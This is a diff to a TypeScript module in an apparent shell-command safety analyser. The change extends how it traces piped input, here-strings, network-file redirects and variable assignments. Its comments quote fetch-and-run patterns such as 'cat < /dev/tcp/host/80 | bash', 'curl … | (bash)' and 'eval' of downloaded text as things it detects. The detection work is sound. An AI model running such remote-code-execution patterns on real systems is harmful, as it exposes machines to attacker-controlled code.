@@ -1,11 +1,13 @@
 /** Part of reading shell lines: the commands a command stands with, as far as the danger catalogue asks for them. */
 
 import type { Word } from '../../engine/effect.ts'
+import { isNetworkFile } from '../catalogue/dangers.ts'
 import { handedOver } from './fed.ts'
 import type { Line } from './line.ts'
-import { repeated } from './said.ts'
+import { printed, repeated } from './said.ts'
 import type { Environment } from './state.ts'
 import { isPrinter, shownSecret } from './shown-secret.ts'
+import { spelledWord, spelledWords } from './spelled.ts'
 import type { Script, ShellWord, SimpleCommand } from './syntax/script.ts'
 import { textOf } from './words.ts'
 
@@ -13,7 +15,7 @@ export interface Company {
   readonly pipeFrom: readonly Word[] | undefined
   readonly upstream: readonly (readonly Word[])[] | undefined
   readonly pipeTo: readonly Word[] | undefined
-  /** The text that comes through the pipe, where a here-document spells it. */
+  /** The text on its input, as far as the line spells it: for restrictions only. */
   readonly said: string | undefined
   /** A variable named like a secret that comes through the pipe. */
   readonly sent: string | undefined
@@ -62,16 +64,12 @@ export function companyOf(
     pipeFrom: upstream?.at(-1),
     upstream,
     pipeTo: stages?.pipeTo,
-    said: stages?.said,
+    said: fed.length === 0 ? stages?.said : spelledInput(fed, source),
     sent: piped ? secretBefore(command, line) : undefined,
     substitutes: dynamic ? commandsIn(command.words, script, argvOf) : undefined,
-    kept: dynamic ? keptIn(command.words, script, argvOf) : undefined,
+    kept: dynamic ? keptIn(command.words, line, argvOf) : undefined,
     over: dynamic && script.repeated.length > 0 ? goneOver(command, script) : undefined,
-    spelled: dynamic
-      ? command.words.map((word) =>
-          word.dynamic || word.tilde ? source.slice(word.span.start, word.span.end) : undefined,
-        )
-      : undefined,
+    spelled: dynamic ? spelledWords(command.words, source) : undefined,
     handed: piped && command.words[0]?.value === 'xargs' ? handedOver(command, script) : undefined,
   }
 }
@@ -85,6 +83,19 @@ function inputsOf({ redirects }: SimpleCommand): readonly ShellWord[] {
     const input = op === '<' || op === '<<<' ? target : body
     return input?.dynamic === true ? [input] : []
   })
+}
+
+/** `bash <<< "rm x $Y"`; of what is nothing but an expansion, nothing is known. */
+function spelledInput(fed: readonly ShellWord[], source: string): string | undefined {
+  const last = fed.at(-1)
+  return last?.parts.some(({ kind, text }) => kind === 'text' && text.trim() !== '') === true
+    ? spelledWord(last, source)
+    : undefined
+}
+
+/** `echo "rm x $Y" | bash`. */
+function printedAsSpelled({ words }: SimpleCommand, source: string): string | undefined {
+  return words.some(({ dynamic }) => dynamic) ? printed(words.map((word) => spelledWord(word, source))) : undefined
 }
 
 /** A variable named like a secret that an earlier stage prints. */
@@ -118,7 +129,7 @@ function pipeline(
   return {
     upstream: stagesUpTo(command, line, argvOf),
     pipeTo: at(command.stage + 1),
-    said: before === undefined || before.redirects.length === 0 ? undefined : repeated(before),
+    said: before === undefined ? undefined : (repeated(before, line.source) ?? printedAsSpelled(before, line.source)),
   }
 }
 
@@ -132,10 +143,20 @@ function stagesUpTo(
   const upstream: (readonly Word[])[] = []
   for (let at = Math.max(0, stage - FARTHEST); at < stage; at++) {
     const found = line.stageAt(pipeline, at)
-    if (found !== undefined) upstream.push(argvOf(found))
+    if (found !== undefined) upstream.push([...argvOf(found), ...connectionsOf(found)])
   }
   return upstream.length === 0 ? undefined : upstream
 }
+
+/** `cat < /dev/tcp/host/80 | bash`: what it reads comes from there. */
+function connectionsOf({ redirects }: SimpleCommand): readonly Word[] {
+  if (redirects.length === 0) return NO_CONNECTIONS
+  return redirects.flatMap(({ op, target }) =>
+    op === '<' && isNetworkFile(target?.value ?? '') ? [target?.value ?? ''] : [],
+  )
+}
+
+const NO_CONNECTIONS: readonly Word[] = []
 
 /** `curl … | (bash)`, `curl … | while read x; do …`: the stage whose input the group reads. */
 function pipeAround({ scope, pipeline }: SimpleCommand, { scopes }: Script): Stage | undefined {
@@ -181,7 +202,7 @@ function isWithin(scope: number, scopes: ReadonlySet<number>, script: Script): b
 /** `x=$(curl …); eval "$x"`: what runs in the values that the line gives to these variables. */
 function keptIn(
   words: readonly ShellWord[],
-  script: Script,
+  { script, outer }: Line,
   argvOf: (other: SimpleCommand) => readonly Word[],
 ): Company['kept'] {
   const names = new Set<string>()
@@ -192,5 +213,7 @@ function keptIn(
     for (const { name, value } of assigns) if (value !== undefined && names.has(name)) values.push(value)
   for (const { name, words: listed } of script.loops)
     if (listed !== undefined && names.has(name)) values.push(...listed)
-  return values.length === 0 ? undefined : commandsIn(values, script, argvOf)
+  // What a script is given, the line around it may have set.
+  if (values.length === 0) return outer === undefined ? undefined : keptIn(words, outer, argvOf)
+  return commandsIn(values, script, argvOf)
 }
